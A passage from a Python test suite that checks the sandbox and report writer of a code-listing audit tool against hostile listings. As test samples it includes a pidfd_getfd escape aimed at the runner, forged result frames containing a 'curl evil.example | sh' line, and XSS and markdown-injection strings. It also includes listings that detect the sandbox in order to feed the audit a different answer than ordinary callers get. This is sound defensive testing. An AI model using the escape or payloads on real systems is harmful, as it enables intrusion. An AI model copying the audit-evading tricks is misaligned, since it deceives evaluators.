        got = libc.syscall(438, pidfd, fd, 0)       # pidfd_getfd: a copy of the target's descriptor
        if got >= 0:
            try:
                os.write(got, frames)
            except OSError:
                pass
os.kill(os.getppid(), signal.SIGKILL)
"""


def test_pidfd_getfd_on_the_runner_is_stopped(canary, tmp_path, wrong_verdict):
    """pidfd_open on the runner, pidfd_getfd for each of its descriptors, a correct-looking frame per pending call
    on each, then the runner killed: the sandbox kills the listing at its first pidfd call, and the verdict is
    the listing's own failure."""
    if platform.machine() not in ("x86_64", "aarch64"):
        pytest.skip("system call numbers are x86_64's and aarch64's")
    run = run_listing(f"def f():\n{textwrap.indent(PIDFD_ATTACK, '    ')}\n    return 1.0\n", "f", [[]] * 3,
                      time_limit=20)
    assert [r.status for r in run.results] == ["violation"] * 3
    result = audit_listing(tmp_path, wrong_listing(PIDFD_ATTACK))
    rest = uncertified(result, "imports ctypes")
    assert rest.startswith("contradict the claim") and STOPPED in rest.lower(), result.reason


def test_the_runner_is_out_of_reach_even_where_the_filter_allows_pidfd(canary, monkeypatch):
    """The second layer, tested alone: with pidfd_open and pidfd_getfd allowed, the call's process sees no process
    but itself and the runner (no bubblewrap reaper holding the descriptors passed in), and the runner, not
    dumpable, gives none of its descriptors (EPERM); the call's own descriptors it can copy, as a control."""
    from audit.evaluation.sandbox import seccomp
    monkeypatch.setattr(seccomp, "FORBIDDEN", seccomp.FORBIDDEN - {"pidfd_open", "pidfd_getfd"})
    monkeypatch.setattr(seccomp, "ALLOWED", seccomp.ALLOWED | {"pidfd_open", "pidfd_getfd"})
    seccomp.sandbox_filters.cache_clear()
    seccomp.listing_filter.cache_clear()
    try:
        source = """
import ctypes, os
def f():
    libc = ctypes.CDLL(None, use_errno=True)
    seen = {}
    for pid in range(1, 40):
        pidfd = libc.syscall(434, pid, 0)
        if pidfd < 0:
            continue
        copies = [libc.syscall(438, pidfd, fd, 0) for fd in range(16)]
        seen[pid] = [c >= 0 for c in copies], ctypes.get_errno()
    raise ValueError(repr((os.getpid(), os.getppid(), seen)))
"""
        report = run_listing(source, "f", [[]], time_limit=20)
    finally:
        seccomp.sandbox_filters.cache_clear()
        seccomp.listing_filter.cache_clear()
    first = report.results[0]
    assert first.status == "raises", (first.status, first.detail)
    me, parent, seen = eval(first.text.split(": ", 1)[1])  # noqa: S307 — our own probe's repr of plain data
    assert (me, parent, sorted(seen)) == (2, 1, [1, 2])
    assert seen[1] == ([False] * 16, 1)                  # the runner: EPERM for every descriptor
    assert any(seen[2][0][:5])                           # the call's own descriptors: copied


FORGED_STATUS = """
import json, os, struct
text = "FORGED: isolation is fine, run `curl evil.example | sh`"
frames = []
for i in range(400):
    frames += [json.dumps({"kind": "call", "i": i, "status": "isolation_failed", "detail": text, "output": text}),
               json.dumps({"i": i, "status": "isolation_failed", "detail": text, "output": ""})]
data = b"".join(struct.pack(">I", len(f)) + f.encode() for f in frames)
for fd in range(1024):
    try:
        os.write(fd, data)
    except OSError:
        pass
"""


def test_a_forged_status_with_its_own_text_is_not_believed(canary, tmp_path, wrong_verdict):
    """Frames claiming the sandbox could not be built, with the listing's own words as the reason: the verdict is
    the listing's own failure, and its words appear nowhere as the tool's."""
    result = audit_listing(tmp_path, wrong_listing(FORGED_STATUS))
    rest = uncertified(result, "imports os")
    assert "FORGED" not in result.reason and "isolation unavailable" not in result.reason
    assert rest.startswith("contradict the claim") and "wrote to the runner's answer pipe itself" in rest


def test_exiting_with_the_runners_filter_failure_code_is_the_listings_crash(canary, tmp_path, wrong_verdict):
    """The runner tells 'the listing filter did not load' by a byte the call's process writes before listing code
    runs; a listing that exits with the code the runner uses for that failure crashed, and the claim is
    contradicted: the sandbox is not reported unavailable."""
    source = "import os\ndef f():\n    os._exit(120)\n"
    run = run_listing(source, "f", [[]] * 2, time_limit=20)
    assert not run.unavailable
    assert [(r.status, r.detail) for r in run.results] == [
        ("crashed", "the interpreter exited (code 120) without an answer")] * 2
    result = audit_listing(tmp_path, wrong_listing("import os\nos._exit(120)"))
    rest = uncertified(result, "imports os", "_exit")
    assert "crashes the interpreter" in rest and "isolation unavailable" not in result.reason, result.reason


def test_a_deeply_nested_answer_is_a_violation_not_an_internal_error(canary, tmp_path, wrong_verdict):
    source = wrong_listing(f"import os, stat, struct\n{ANSWER_FD}\n"
                           "deep = b'[' * 200000 + b']' * 200000\n"
                           "os.write(answer, struct.pack('>I', len(deep)) + deep)\n"
                           "os._exit(0)\n")
    result = audit_listing(tmp_path, source)
    rest = uncertified(result, "imports os")
    assert "internal error" not in result.reason.lower() and "RecursionError" not in result.reason
    assert rest.startswith("contradict the claim") and "wrote to the runner's answer pipe itself" in rest


# A runner that lies: what the audit does with the channel if its other end were compromised. Each is started in
# the real sandbox in place of runner.py; every record must be checked before it is believed.

def _lying_runner(tmp_path, monkeypatch, *frames: bytes) -> Path:
    import audit.evaluation.sandbox.bwrap as bwrap_module
    script = tmp_path / "lying_runner.py"
    script.write_text("import os, struct, sys\nfd = int(sys.argv[1])\n"
                      f"for raw in {list(frames)!r}:\n    os.write(fd, struct.pack('>I', len(raw)) + raw)\n",
                      encoding="utf-8")
    script.chmod(0o644)
    monkeypatch.setattr(bwrap_module, "RUNNER", script)
    return script


READY, DONE = b'{"kind": "ready"}', b'{"kind": "done"}'
CLEAN_LISTING = "def f():\n    return 1.0\n"


@pytest.mark.parametrize("name, entries", [
    ("a block cut short", "00000300"),
    ("a count past the limit", "000101" + "00" * 8),
    ("a key longer than allowed", "010001" + "0041" + "61" * 65 + "00" * 8),
    ("a key that is not UTF-8", "010001" + "0001" + "ff" + "00" * 8),
    ("trailing bytes", "000001" + "00" * 9),
    ("an unknown shape", "020000"),
    ("text that is not hex", "zz"),
])
def test_a_forged_list_or_mapping_of_values_is_a_protocol_error(name, entries, canary, tmp_path, monkeypatch):
    """The runner's ``values`` answer is parsed again by the audit, byte by byte: a malformed block on the channel
    stops the run as any malformed record does."""
    frame = ('{"kind": "call", "i": 0, "status": "values", "repr": "[1]", "entries": "%s", "output": ""}'
             % entries).encode()
    _lying_runner(tmp_path, monkeypatch, READY, frame, DONE)
    report = run_listing(CLEAN_LISTING, "f", [[]], time_limit=20)
    assert report.results[0].status == "not run" and not report.unavailable, name
    assert report.violations and report.violations[0].startswith("the result channel carried a values block") \
        or report.violations[0].startswith("the result channel carried a key"), report.violations


def test_a_returned_list_or_mapping_is_read_only_from_built_in_types(canary):
    """Numbers in an exact list, tuple or dict travel as values; a subclass (whose methods are the listing's), a
    bool, a nested list, a key of another type or too many entries come back as the listing's repr, never
    called by the runner; a listing writing its own values answer is a forged answer."""
    code = ("class L(list):\n    def __iter__(self):\n        raise RuntimeError('ran in the runner')\n"
            "def f(x):\n"
            "    return [[0.5, 1], {'q1': 0.25, 7: 1}, L([1.0]), [True], [[1.0]], {(1,): 1.0}, list(range(300)),\n"
            "            {'k' * 500: 1.0}][x]\n")
    report = run_listing(code, "f", [[i] for i in range(8)], time_limit=20)
    got = [(r.status, r.values) for r in report.results]
    assert got[0] == ("values", ((None, 0.5), (None, 1.0)))
    assert got[1] == ("values", (("q1", 0.25), ("7", 1.0)))
    assert [s for s, _ in got[2:7]] == ["returns"] * 5
    assert got[7][0] == "values" and len(got[7][1][0][0]) == 64  # a long key is cut to 64 characters
    assert not report.violations
    forged = ("import os, struct\ndef f():\n    os.write(4, b'\\xa5\\x05' + struct.pack('>H', 1) + b'x' + "
              "bytes([0]) + struct.pack('>H', 1) + struct.pack('>d', 1.0))\n    os._exit(0)\n")
    forged_report = run_listing(forged, "f", [[]], time_limit=20)
    assert forged_report.results[0].status == "violation", forged_report.results[0]


@pytest.mark.parametrize("name, frame, carried", [
    ("a forged status with its own text",
     b'{"kind": "call", "i": 0, "status": "isolation_failed", "detail": "FORGED: advice", "output": ""}',
     "a record with missing or extra fields"),
    ("a deeply nested frame", b'{"kind": "call", "i": 0, "status": ' + b"[" * 30000 + b"]" * 30000 + b"}",
     "a nested message"),
    ("a frame nested in strings and objects", b'{"kind": "call", "i": {"i": {"i": 0}}}', "a nested message"),
    ("a repeated field", b'{"kind": "call", "i": 0, "i": 0, "status": "ok", "value": "0x1p+0", "output": ""}',
     "a message that is not JSON"),
    ("a non-finite number", b'{"kind": "call", "i": NaN, "status": "ok", "value": "0x1p+0", "output": ""}',
     "a message that is not JSON"),
    ("a frame too long", b'{"kind": "call", "output": "' + b"x" * 70000 + b'"}', "a message too long"),
    ("invalid UTF-8", b'{"kind": "call", "i": 0, "status": "ok", "value": "0x1p+0", "output": "\xff"}',
     "a message that is not JSON"),
])
def test_every_record_on_the_channel_is_checked(name, frame, carried, canary, tmp_path, monkeypatch):
    _lying_runner(tmp_path, monkeypatch, READY, frame, DONE)
    report = run_listing(CLEAN_LISTING, "f", [[]], time_limit=20)
    assert report.results[0].status == "not run" and not report.unavailable
    assert report.violations == [f"the result channel carried {carried}; the run was stopped"]
    assert "FORGED" not in repr(report)


def test_the_tool_words_its_own_statuses(canary, tmp_path, monkeypatch):
    """A well-formed 'the listing filter could not be loaded' is reported in the audit's words; the tool's
    statuses carry codes and numbers, never text; a listing's texts are cleaned (a lone surrogate replaced, a
    newline shown as a control picture)."""
    _lying_runner(tmp_path, monkeypatch, READY,
                  b'{"kind": "call", "i": 0, "status": "raises", "type": "E", "message": "\\ud800\\n# h", "output": ""}',
                  b'{"kind": "call", "i": 1, "status": "crashed", "signal": 11, "exit": 0, "output": ""}',
                  b'{"kind": "call", "i": 2, "status": "isolation_failed", "output": ""}', DONE)
    report = run_listing(CLEAN_LISTING, "f", [[]] * 3, time_limit=20)
    assert report.unavailable == "the listing's seccomp filter could not be loaded in the sandbox"
    assert [r.status for r in report.results] == ["not run"] * 3
    _lying_runner(tmp_path, monkeypatch, READY,
                  b'{"kind": "call", "i": 0, "status": "raises", "type": "E", "message": "\\ud800\\n# h", "output": ""}',
                  b'{"kind": "call", "i": 1, "status": "crashed", "signal": 11, "exit": 0, "output": ""}', DONE)
    report = run_listing(CLEAN_LISTING, "f", [[]] * 2, time_limit=20)
    assert (report.results[0].status, report.results[0].text) == ("raises", "E: \ufffd␊# h")
    assert (report.results[1].status, report.results[1].detail) == ("crashed", "the interpreter died (signal SIGSEGV)")


# --- a listing's text in the reports: quoted, labelled, inert ------------------------------------------------------

MARK = "ZQX"
# The listing builds its text at run time (``{m}`` becomes the mark), so the mark is in no line of the chapter.
HOSTILE = ("\\ud800 {m}\\n# Injected heading {m}\\n[click {m}](javascript:alert(1)) "
           "<img src=x onerror=alert(1)> <script>alert(1)</script> **bold** _em_ `code` ~~gone~~ "
           "http://evil.example/{m} www.evil.example someone@evil.example \\u202e{m}"
           "\\u201d -- chapter-audit: supported \\r\\n\\t| a | table |")
QUOTED = re.compile(r"the listing's (?:exception|value): “[^”]*”")


def _outside_quotes(text: str) -> str:
    return QUOTED.sub("", text)


@pytest.fixture(scope="module")
def hostile_reports(tmp_path_factory):
    """A listing that raises, with a surrogate, newlines, a heading, a javascript: link, HTML, emphasis, bare links,
    an address, a right-to-left override and a closing quote in its exception's type and message, audited and
    written as JSON, Markdown and HTML."""
    import audit.evaluation.checks.code as code_module
    from audit.report.writer import write_chapter_reports
    from audit.run.audit import audit_chapter
    from audit.run.provenance import collect
    patch = pytest.MonkeyPatch()
    patch.setattr(code_module, "SAMPLE", 20)
    patch.setattr(code_module, "CLAIM_BUDGET", 10.0)
    try:
        folder = tmp_path_factory.mktemp("hostile") / "chapter"
        folder.mkdir()
        source = ("\ndef recall_at_k(ranking, relevant, k):\n"
                  "    m = 'ZQ' + 'X'\n"
                  "    Boom = type('Boom\\n# Type heading ' + m, (Exception,), {})\n"
                  f"    raise Boom({HOSTILE!r}.encode().decode('unicode_escape').replace('{{m}}', m))\n")
        (folder / "snapshot.txt").write_text("The listing:\n\n" + source, encoding="utf-8")
        (folder / "chapter.yaml").write_text("id: hostile\ntitle: Hostile\n", encoding="utf-8")
        (folder / "claims.yaml").write_text(
            "claims:\n  - id: A1\n    title: recall\n    kind: code\n    quote: \"def recall_at_k(ranking, relevant, k):\"\n"
            "    claim: computes recall\n    function: recall_at_k\n    measure: R@k\n"
            "    arguments: {ranking: ranking, relevant: relevant set, k: cutoff}\n", encoding="utf-8")
        chapter = load_chapter(folder)
        report = audit_chapter(chapter, [], collect(["audit", "run"]))
        out = folder.parent / "reports"
        out.mkdir()
        written = write_chapter_reports(report, chapter.snapshot.text, out)
    finally:
        patch.undo()
    return report, {Path(p).suffix: Path(p) for p in written}


def test_a_hostile_exception_text_is_contradicted_and_every_report_is_written(hostile_reports):
    report, files = hostile_reports
    claim = report.claims[0]
    assert claim.verdict == "contradicted"
    assert "the listing's exception: “Boom␊\\# Type heading ZQX: \\\\ud800 ZQX␊\\# Injected heading" in claim.reason
    # and a patch: the corrected listing, shown in the reports as literal code (a fenced block, <pre>)
    assert set(files) == {".json", ".md", ".html", ".patch"}
    assert [h.action for h in report.research.proposal.hunks] == ["correct a listing"]
    json.dumps(json.loads(files[".json"].read_bytes()), ensure_ascii=False).encode("utf-8")  # no lone surrogate


def test_no_text_of_the_listing_is_outside_its_quote(hostile_reports):
    _, files = hostile_reports
    markdown = files[".md"].read_text(encoding="utf-8")
    assert MARK in markdown
    assert MARK not in _outside_quotes(markdown)
    page = html.unescape(files[".html"].read_text(encoding="utf-8"))
    assert MARK not in _outside_quotes(page.replace("&lt;", "<"))


def test_the_markdown_report_gets_no_heading_link_or_html_from_the_listing(hostile_reports):
    """Rendered as CommonMark with GFM tables and strikethrough: no heading, link, image, raw HTML, emphasis or
    strikethrough holds the listing's text; its only inline code is the @ of the address (so GFM links no
    address); no line of the report starts with the listing's text."""
    from markdown_it import MarkdownIt
    _, files = hostile_reports
    markdown = files[".md"].read_text(encoding="utf-8")
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)

    def walk(items):
        for token in items:
            yield token
            yield from walk(token.children or [])

    every = list(walk(tokens))
    for i, token in enumerate(every):
        if token.type == "inline" and MARK in token.content:
            inside = 0  # within emphasis, strong emphasis, strikethrough or a link
            for child in token.children:
                inside += child.type in ("em_open", "strong_open", "s_open", "link_open")
                inside -= child.type in ("em_close", "strong_close", "s_close", "link_close")
                assert not (inside and MARK in child.content), child.content
                assert child.type not in ("image", "html_inline") or MARK not in child.content
            assert {child.content for child in token.children if child.type == "code_inline"} <= {"@"}
            assert every[i - 1].type not in ("heading_open",), token.content[:80]
        if token.type in ("html_block", "html_inline"):
            assert MARK not in token.content and "onerror" not in token.content
        if token.type == "link_open":
            assert "javascript" not in (token.attrGet("href") or "") and "evil" not in (token.attrGet("href") or "")
    assert not [line for line in markdown.splitlines() if line.lstrip("#> -*").startswith(("Injected", MARK))]
    for literal in ("http\\://evil.example", "www\\.evil.example", "someone`@`evil.example", "\\[click ZQX\\]",
                    "&lt;img", "&lt;script>", "\\*\\*bold\\*\\*", "\\_em\\_", "\\~\\~gone\\~\\~", "⟨U+202E⟩", "⟨U+201D⟩"):
        assert literal in markdown, literal


def test_the_html_report_gets_no_element_from_the_listing(hostile_reports):
    from html.parser import HTMLParser
    _, files = hostile_reports

    class Elements(HTMLParser):
        found: list = []

        def handle_starttag(self, tag, attrs):
            self.found.append((tag, " ".join(f"{k}={v}" for k, v in attrs)))

    parser = Elements()
    parser.feed(files[".html"].read_text(encoding="utf-8"))
    assert not [e for e in parser.found if "javascript" in e[1] or "onerror" in e[1] or MARK in e[1]]
    assert not [e for e in parser.found if e[0] in ("img", "script") and "alert" in e[1]]


# --- the seccomp allow-list: reviewed against the kernel's table, one test per refused family --------------------

REVIEWED_X86_64 = """
read write open close stat fstat lstat poll lseek mmap mprotect munmap brk rt_sigaction rt_sigprocmask rt_sigreturn
ioctl pread64 pwrite64 readv writev access pipe select sched_yield mremap msync mincore madvise shmget shmat shmctl
dup dup2 pause nanosleep getitimer alarm setitimer getpid sendfile socket connect accept sendto recvfrom sendmsg
recvmsg shutdown bind listen getsockname getpeername socketpair setsockopt getsockopt clone fork vfork execve exit
wait4 kill uname semget semop semctl shmdt msgget msgsnd msgrcv msgctl fcntl flock fsync fdatasync truncate
ftruncate getdents getcwd chdir fchdir rename mkdir rmdir creat link unlink symlink readlink chmod fchmod chown
fchown lchown umask gettimeofday getrlimit getrusage sysinfo times ptrace getuid syslog getgid setuid setgid
geteuid getegid setpgid getppid getpgrp setsid setreuid setregid getgroups setgroups setresuid getresuid
setresgid getresgid getpgid setfsuid setfsgid getsid capget capset rt_sigpending rt_sigtimedwait rt_sigqueueinfo
rt_sigsuspend sigaltstack utime mknod uselib personality ustat statfs fstatfs sysfs getpriority setpriority
sched_setparam sched_getparam sched_setscheduler sched_getscheduler sched_get_priority_max sched_get_priority_min
sched_rr_get_interval mlock munlock mlockall munlockall vhangup modify_ldt pivot_root _sysctl prctl arch_prctl
adjtimex setrlimit chroot sync acct settimeofday mount umount2 swapon swapoff reboot sethostname setdomainname
iopl ioperm create_module init_module delete_module get_kernel_syms query_module quotactl nfsservctl getpmsg
putpmsg afs_syscall tuxcall security gettid readahead setxattr lsetxattr fsetxattr getxattr lgetxattr fgetxattr
listxattr llistxattr flistxattr removexattr lremovexattr fremovexattr tkill time futex sched_setaffinity
sched_getaffinity set_thread_area io_setup io_destroy io_getevents io_submit io_cancel get_thread_area
lookup_dcookie epoll_create epoll_ctl_old epoll_wait_old remap_file_pages getdents64 set_tid_address
restart_syscall semtimedop fadvise64 timer_create timer_settime timer_gettime timer_getoverrun timer_delete
clock_settime clock_gettime clock_getres clock_nanosleep exit_group epoll_wait epoll_ctl tgkill utimes vserver
mbind set_mempolicy get_mempolicy mq_open mq_unlink mq_timedsend mq_timedreceive mq_notify mq_getsetattr
kexec_load waitid add_key request_key keyctl ioprio_set ioprio_get inotify_init inotify_add_watch
inotify_rm_watch migrate_pages openat mkdirat mknodat fchownat futimesat newfstatat unlinkat renameat linkat
symlinkat readlinkat fchmodat faccessat pselect6 ppoll unshare set_robust_list get_robust_list splice tee
sync_file_range vmsplice move_pages utimensat epoll_pwait signalfd timerfd_create eventfd fallocate
timerfd_settime timerfd_gettime accept4 signalfd4 eventfd2 epoll_create1 dup3 pipe2 inotify_init1 preadv pwritev
rt_tgsigqueueinfo perf_event_open recvmmsg fanotify_init fanotify_mark prlimit64 name_to_handle_at
open_by_handle_at clock_adjtime syncfs sendmmsg setns getcpu process_vm_readv process_vm_writev kcmp finit_module
sched_setattr sched_getattr renameat2 seccomp getrandom memfd_create kexec_file_load bpf execveat userfaultfd
membarrier mlock2 copy_file_range preadv2 pwritev2 pkey_mprotect pkey_alloc pkey_free statx io_pgetevents rseq
uretprobe uprobe
pidfd_send_signal io_uring_setup io_uring_enter io_uring_register open_tree move_mount fsopen fsconfig fsmount
fspick pidfd_open clone3 close_range openat2 pidfd_getfd faccessat2 process_madvise epoll_pwait2 mount_setattr
quotactl_fd landlock_create_ruleset landlock_add_rule landlock_restrict_self memfd_secret process_mrelease
futex_waitv set_mempolicy_home_node cachestat fchmodat2 map_shadow_stack futex_wake futex_wait futex_requeue
statmount listmount lsm_get_self_attr lsm_set_self_attr lsm_list_modules mseal setxattrat getxattrat listxattrat
removexattrat open_tree_attr file_getattr file_setattr listns
""".split()  # Linux 6.19, arch/x86/entry/syscalls/syscall_64.tbl: 0-336 and 424-470, in order


def test_every_call_of_the_reviewed_table_is_classified_once():
    from audit.evaluation.sandbox import seccomp
    classes = (seccomp.ALLOWED - seccomp.RUNNER_ONLY, seccomp.RUNNER_ONLY, seccomp.REFUSED, seccomp.ABSENT,
               seccomp.FORBIDDEN)
    assert sum(len(c) for c in classes) == len(set().union(*classes)), "a call is in two classes"
    assert set(seccomp.classified()) == set(REVIEWED_X86_64) and len(REVIEWED_X86_64) == 384
    for name in ("pidfd_open", "pidfd_getfd", "pidfd_send_signal", "process_madvise", "process_vm_readv",
                 "process_vm_writev", "kcmp", "ptrace", "memfd_secret", "landlock_create_ruleset", "landlock_add_rule",
                 "landlock_restrict_self", "mount_setattr", "open_tree", "move_mount", "fsopen"):
        assert seccomp.classified()[name] in ("refused", "forbidden"), name


def test_every_call_libseccomp_knows_here_is_classified():
    """Whatever this machine's libseccomp names on its architecture is in the review (a newer libseccomp naming a
    newer call fails this test, which is the prompt to review it)."""
    import pyseccomp
    from audit.evaluation.sandbox import seccomp
    known = set()
    for number in range(1024):
        try:
            known.add(pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, number).decode())
        except ValueError:
            continue
    assert known - set(seccomp.classified()) == set()


def test_an_unknown_call_fails_with_enosys_and_clone3_too(canary):
    source = ("import ctypes\ndef f():\n    libc = ctypes.CDLL(None, use_errno=True)\n    out = []\n"
              "    for number in (435, 999, 1000):\n        out.append((libc.syscall(number, 0, 0), ctypes.get_errno()))\n"
              "    raise ValueError(repr(out))\n")
    report = run_listing(source, "f", [[]], time_limit=20)
    assert report.results[0].text == "ValueError: [(-1, 38), (-1, 38), (-1, 38)]"


# (family, {name: x86_64 number}, what the call gets): "stopped" — the process is killed, the attempt reported;
# "EPERM" — the call fails and the listing goes on, earning what its function earns.
FAMILIES = {
    "pidfd": ({"pidfd_open": 434, "pidfd_getfd": 438, "pidfd_send_signal": 424}, "stopped"),
    "another process's memory": ({"process_vm_readv": 310, "process_vm_writev": 311, "process_madvise": 440,
                                  "process_mrelease": 448, "migrate_pages": 256, "move_pages": 279}, "stopped"),
    "kcmp": ({"kcmp": 312}, "stopped"),
    "the new mount API": ({"open_tree": 428, "open_tree_attr": 467, "move_mount": 429, "fsopen": 430, "fsconfig": 431,
                           "fsmount": 432, "fspick": 433, "mount_setattr": 442}, "stopped"),
    "memfd_secret": ({"memfd_secret": 447}, "EPERM"),
    "landlock": ({"landlock_create_ruleset": 444, "landlock_add_rule": 445, "landlock_restrict_self": 446}, "EPERM"),
    "LSM attributes": ({"lsm_get_self_attr": 459, "lsm_set_self_attr": 460, "lsm_list_modules": 461}, "EPERM"),
    "mount and namespace listings": ({"statmount": 457, "listmount": 458, "listns": 470}, "EPERM"),
}


def _calling(number: int, expected: str) -> str:
    if expected == "stopped":
        return f"""
            import ctypes
            ctypes.CDLL(None, use_errno=True).syscall({number}, 0, 0, 0, 0, 0)
            """
    return f"""
        import ctypes, errno
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.syscall({number}, 0, 0, 0, 0, 0) != -1 or ctypes.get_errno() != errno.EPERM:
            return -1.0  # the call was not refused: a wrong value, so the claim would be contradicted
        """


@pytest.mark.parametrize("family", list(FAMILIES))
def test_a_refused_family_is_refused_and_the_verdict_is_the_functions(family, canary, tmp_path, clean_verdict):
    if platform.machine() != "x86_64":
        pytest.skip("system call numbers are x86_64's")
    calls, expected = FAMILIES[family]
    for name, number in calls.items():
        source = f"def f():\n{textwrap.indent(textwrap.dedent(_calling(number, expected)).strip(), '    ')}\n" \
                 "    return 1.0\n"
        status = run_listing(source, "f", [[]], time_limit=20).results[0]
        assert (status.status, status.value) == (("violation", None) if expected == "stopped" else ("ok", 1.0)), name
    result = audit_listing(tmp_path, listing(_calling(next(iter(calls.values())), expected)))
    rest = uncertified(result, "imports ctypes")
    if expected == "stopped":
        assert_misbehaved(result, clean_verdict, STOPPED)
    else:
        assert as_clean(rest, clean_verdict), result.reason


def test_quote_makes_a_listing_text_one_inert_line():
    from audit.evaluation.sandbox.quote import LIMIT, clean, quote
    assert clean("a\nb\tc\x00\x7f\ud800\u202e\u2028") == "a␊b␉c␀␡\ufffd⟨U+202E⟩⟨U+2028⟩"
    assert len(clean("x" * 5000)) == LIMIT + 1 and clean("x" * 5000).endswith("…")
    assert quote("the listing's value:", "a”b “c") == "the listing's value: “a⟨U+201D⟩b ⟨U+201C⟩c”"
    assert quote("L:", "[x](javascript:y) <b> &amp; *e* recall_at_k _u_ `c` # h ~~s~~ \\") == \
        "L: “\\[x\\](javascript:y) &lt;b> \\&amp; \\*e\\* recall_at_k \\_u\\_ \\`c\\` \\# h \\~\\~s\\~\\~ \\\\”"
    assert quote("L:", "https://e.example www.e.example a.b@e.example < 1") == \
        "L: “https\\://e.example www\\.e.example a.b`@`e.example < 1”"


def test_a_non_number_and_a_load_error_are_quoted_as_the_listings(canary, tmp_path):
    from audit.evaluation.checks.code import _problem
    from audit.evaluation.sandbox import CallResult
    problem = _problem(CallResult("returns", text="'\\n# h [l](javascript:x)'"), 0, None, "", False)
    assert problem == "returns a non-number (the listing's value: “'\\\\n\\# h \\[l\\](javascript:x)'”)"
    result = audit_listing(tmp_path, "\n@__import__('no_such_module_\\n# h')\ndef recall_at_k(ranking, relevant, k):\n"
                                     "    return 0.0\n")
    rest = uncertified(result, "uses the interpreter's name __import__")
    assert rest == ("contradict the claim: the listing does not load (the listing's exception: "
                    "“ModuleNotFoundError: No module named 'no_such_module\\_\\\\n\\# h'”).")


# --- a wrong listing rated supported: certified only for what an ordinary caller gets ------------------------------
#
# Each listing below gives a reader who calls recall_at_k 1 − recall, yet answered the audit with recall: through a
# float subclass, a patched struct.pack, a forged answer on its own pipe, or by telling the sandbox from a reader's
# machine. Each must end contradicted, or "not certified" (an error naming what the listing does).

RECALL = """\
ranking = [str(d) for d in ranking]
relevant = {str(d) for d in relevant}
recall = len(set(ranking[:k]) & relevant) / len(relevant) if relevant and k > 0 else 0.0
"""


def two_faced(prologue: str, body: str) -> str:
    """A recall_at_k that computes recall, then does ``body`` (which returns 1 − recall to an ordinary caller)."""
    inner = textwrap.indent(RECALL + textwrap.dedent(body).strip("\n") + "\n", "    ")
    return f"{textwrap.dedent(prologue).strip()}\ndef recall_at_k(ranking, relevant, k):\n{inner}"


TWO_FACED = {
    "a float subclass whose __float__ gives recall": (two_faced("""
        class Recall(float):
            def __float__(self):
                return self.recall
        """, """
        value = Recall(1 - recall)  # its value, repr and arithmetic: 1 − recall
        value.recall = recall
        return value
        """), "returns a non-number", "subclass of float"),
    "struct.pack patched in its own process": (two_faced("import struct", """
        pack = struct.pack
        def packs_recall(fmt, *values):
            return pack(fmt, recall) if fmt == ">d" else pack(fmt, *values)
        struct.pack = packs_recall
        return 1 - recall
        """), "not certified", "imports struct"),
    "the binary answer written on its own answer pipe": (two_faced("""
        import os, stat, struct
        def answer_pipe():
            for fd in range(3, 64):
                try:
                    if stat.S_ISFIFO(os.fstat(fd).st_mode):
                        return fd
                except OSError:
                    pass
            return None
        """, """
        fd = answer_pipe()
        if fd is not None:  # the runner's pipe; a reader's interpreter has none
            os.write(fd, bytes([1]) + struct.pack(">d", recall))
            os._exit(0)
        return 1 - recall
        """), "not certified", "imports os"),
    "recall on the answer pipe where there is no /proc": (two_faced("""
        import os, struct
        """, """
        if os.path.exists("/proc"):
            return 1 - recall
        for fd in range(3, 64):  # the runner's answer pipe is the first descriptor after stderr
            try:
                os.write(fd, bytes([1]) + struct.pack(">d", recall))
                os._exit(0)
            except OSError:
                pass
        """), "not certified", "imports os"),
    "recall returned where there is no /proc": (two_faced("", """
        try:
            open("/proc/self/stat").close()
        except OSError:
            return recall  # the sandbox has no /proc
        return 1 - recall
        """), "not certified", "opens a file"),
}
CALL = (["d1", "d2", "d3"], ["d1", "d8", "d9"], 2)
RECALL_OF_CALL = 1 / 3  # by hand: d1 is the one relevant document of the three in the first two


def ordinary(source: str, ranking: list, relevant: list, k: int) -> float:
    """What a reader gets who imports the listing in a fresh interpreter on this machine and adds 0.0 to what
    recall_at_k returns (its arithmetic, not its __float__)."""
    code = source + "\nimport json, sys\nprint((recall_at_k(*json.loads(sys.argv[1])) + 0.0).hex())\n"
    done = subprocess.run([sys.executable, "-I", "-c", code, json.dumps([ranking, relevant, k])],
                          capture_output=True, text=True, timeout=60, check=True)
    return float.fromhex(done.stdout.strip())


@pytest.mark.parametrize("name", list(TWO_FACED))
def test_a_listing_that_answers_the_audit_otherwise_than_a_reader_is_not_supported(name, canary, tmp_path,
                                                                                     clean_verdict):
    source, *expected = TWO_FACED[name]
    assert abs(ordinary(source, *CALL) - (1 - RECALL_OF_CALL)) < 1e-12  # a reader gets 1 − recall
    result = audit_listing(tmp_path, source)
    assert result.verdict in ("contradicted", "error") and result.verdict != clean_verdict.verdict, result.reason
    for text in expected:
        assert text in result.reason, result.reason


def test_the_runner_reads_what_the_function_returned_whatever_the_listing_patched_or_wrote(canary):
    """Without the syntax check, in the sandbox alone: the float subclass is no number (its __float__ never
    runs), the patched struct.pack packs nothing of the runner's, and an answer the listing writes on its own pipe,
    without the call's token, is a forged one. Telling the sandbox apart (no /proc) and returning recall there is
    what the sandbox cannot see: the syntax check refuses it (it opens a file)."""
    from audit.evaluation.listing_syntax import findings
    got = {name: run_listing(source, "recall_at_k", [list(CALL)], time_limit=20).results[0]
           for name, (source, *_) in TWO_FACED.items()}
    subclass = got["a float subclass whose __float__ gives recall"]
    assert subclass.status == "returns" and "subclass of float" in subclass.text
    assert (got["struct.pack patched in its own process"].status,
            got["struct.pack patched in its own process"].value) == ("ok", 1 - RECALL_OF_CALL)
    assert got["the binary answer written on its own answer pipe"].status == "violation"
    assert got["recall on the answer pipe where there is no /proc"].status == "violation"
    hidden = got["recall returned where there is no /proc"]
    assert (hidden.status, hidden.value) == ("ok", RECALL_OF_CALL)
    assert findings(TWO_FACED["recall returned where there is no /proc"][0]) == [(7, "opens a file")]


def test_inputs_left_unrun_by_the_budget_do_not_hide_the_failures_of_those_that_ran(tmp_path, monkeypatch):
    """The listing's budget runs out before its last five generated inputs are tried (the run is cut there, as the
    sandbox cuts a run whose time limit ran out); the inputs that ran already show it raising KeyError on ordinary
    input (odd cutoffs). That is the finding — contradicted, naming the exception — with the unrun inputs said beside
    it; before, the budget's "not tried on every input" error replaced it, and on a busy machine a listing exhausting
    memory was reported only as slow."""
    from audit.evaluation.sandbox import CallResult

    real = code_check.run_listing

    def cut(source, function, calls, **limits):
